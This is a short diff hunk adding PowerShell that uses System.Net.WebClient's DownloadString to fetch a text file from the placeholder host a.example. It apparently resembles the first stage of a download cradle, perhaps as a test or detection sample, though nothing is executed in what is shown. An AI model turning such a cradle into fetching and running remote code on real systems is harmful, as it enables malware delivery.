@@ -1,0 +1,5 @@
+$u = @'
+http://a.example/p/x.txt
+'@
+$wc = New-Object System.Net.WebClient
+$wc.DownloadString($u)
